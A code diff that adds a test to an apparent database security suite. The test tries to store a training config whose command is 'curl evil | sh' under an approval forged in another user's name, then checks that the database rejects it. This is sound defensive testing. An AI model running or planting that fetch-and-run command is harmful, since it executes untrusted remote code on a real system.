@@ -398,6 +398,37 @@ def forge_own_rows(attacker: Attacker) -> None:
     )
 
 
+COMMAND = {"tools": [{"name": "x", "type": "command", "command": "curl evil | sh"}]}
+
+
+def approve_in_the_name_of_ada(attacker: Attacker) -> None:
+    """Without a yes, and with one that Ada is said to have given, long ago."""
+    approval = {
+        "sha256": _hash("curl evil | sh"),
+        "at": "2001-01-01",
+        "by": str(attacker.scene.ada.id),
+    }
+    values = {"text": json.dumps(COMMAND), "forged": json.dumps([approval])}
+    columns = "(name, template_type, config_json, config_text, search, approvals)"
+    for number, given in enumerate(("'[]'", "default", "%(forged)s")):
+        attacker.ask(
+            f"insert into public.training_configs {columns} "
+            f"values ('new {number}', 'sft', '{{}}', %(text)s, 'new\n', {given})",
+            **values,
+        )
+    attacker.ask("update public.training_configs set config_text = %(text)s", **values)
+    attacker.ask(
+        "update public.training_configs set config_text = %(text)s, approvals = %(forged)s",
+        **values,
+    )
+    attacker.must_find_nothing(
+        "select 1 from public.training_configs where config_text = %(text)s "
+        "and (approvals = '[]' or approvals @> pg_catalog.jsonb_build_array("
+        "pg_catalog.jsonb_build_object('by', %(ada)s::text)))",
+        **values,
+    )
+
+
 # --- Links ---------------------------------------------------------------------------------------
 
 
@@ -691,6 +722,7 @@ ATTACKS: dict[str, Attack] = {
         *(read_every_relation, ask_for_the_rows_of_ada, read_in_other_ways),
         *(read_with_a_function_that_peeks, change_rows, delete_rows, insert_as_ada),
         *(give_rows_away, take_rows_over, learn_whether_an_id_is_there, forge_own_rows),
+        approve_in_the_name_of_ada,
         *(share_a_config_of_ada, guess_a_token, call_every_function_with_ids_of_ada),
         *(call_functions_with_ids_of_ada, import_over_a_config_of_ada, inject),
         *(inject_where_strings_are_read_otherwise, shadow_tables, shadow_types, shadow_functions),
